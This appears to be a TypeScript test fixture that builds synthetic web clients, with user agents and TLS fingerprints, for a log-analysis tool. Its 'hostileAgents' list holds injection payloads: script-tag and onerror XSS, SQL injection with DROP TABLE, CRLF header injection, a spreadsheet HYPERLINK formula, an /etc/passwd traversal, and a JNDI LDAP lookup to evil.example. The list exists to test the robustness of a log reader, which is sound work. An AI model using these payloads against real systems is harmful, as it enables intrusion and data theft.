import { Random } from '../lib/insights/random.ts'
import { hex, pick } from './identifiers.ts'

/** A client of a web site, by what logs say of it. */
export interface Client {
  /** `User-Agent`, the default entity; undefined when the client sends none. */
  readonly agent: string | undefined
  readonly ja3: string
  readonly ja4: string
  readonly country: string
}

/** User agents that try to break whatever reads the logs: markup, quotes, separators, line breaks, escapes, length, other scripts. */
export const hostileAgents: readonly string[] = [
  '<script>document.title="owned"</script>',
  '"><img src=x onerror=alert(1)>',
  "Mozilla/5.0' OR '1'='1'; DROP TABLE pairs; --",
  'curl/8.5.0, 10.0.0.1, "quoted", end',
  'Mozilla/5.0 (two\nlines)\r\nX-Injected: yes',
  '=HYPERLINK("http://evil.example/","click")',
  '%3Cb%3E 100%25 %2e%2e %ZZ %',
  '../../../../etc/passwd\u0000.png',
  'Mozilla/5.0 (Windows NT 10.0) Ünïcödé/1.0 浏览器 браузер 🦊',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant literally
  'back\\slash `backtick` ${jndi:ldap://evil.example/a}',
  `long/${'A1 b.,'.repeat(250)}`,
  'two  spaces  twice',
  '\u001b[31mred\u001b[0m\ttab',
]

const COUNTRIES = ['US', 'DE', 'BR', 'IN', 'JP', 'SE', 'NG', 'FR'] as const
const BROWSERS = ['Chrome', 'Firefox', 'Edg', 'Safari'] as const
const SYSTEMS = ['Windows NT 10.0; Win64; x64', 'Macintosh; Intel Mac OS X 10_15_7', 'X11; Linux x86_64'] as const
const PROGRAMS = ['curl', 'python-requests', 'okhttp', 'Go-http-client', 'ExampleMonitor', 'partner-sync'] as const

/** The client with this number: the first sends no user agent, then come the hostile ones, then browsers and programs. */
export function clientOf(seed: number, number: number): Client {
  const random = new Random(seed, 21, number)
  return {
    agent: number === 0 ? undefined : (hostileAgents[number - 1] ?? ordinary(random, number)),
    ja3: hex(random, 4),
    ja4: `t13d${1000 + random.below(9000)}h2_${hex(random, 2).slice(0, 12)}_${hex(random, 2).slice(0, 12)}`,
    country: pick(random, COUNTRIES),
  }
}

function ordinary(random: Random, number: number): string {
  if (random.uniform() < 0.4) return `${pick(random, PROGRAMS)}/${1 + random.below(9)}.${number}.${random.below(20)}`
  const major = 90 + random.below(40)
  return `Mozilla/5.0 (${pick(random, SYSTEMS)}) AppleWebKit/537.36 (KHTML, like Gecko) ${pick(random, BROWSERS)}/${major}.0.${number}.${random.below(200)} Safari/537.36`
}
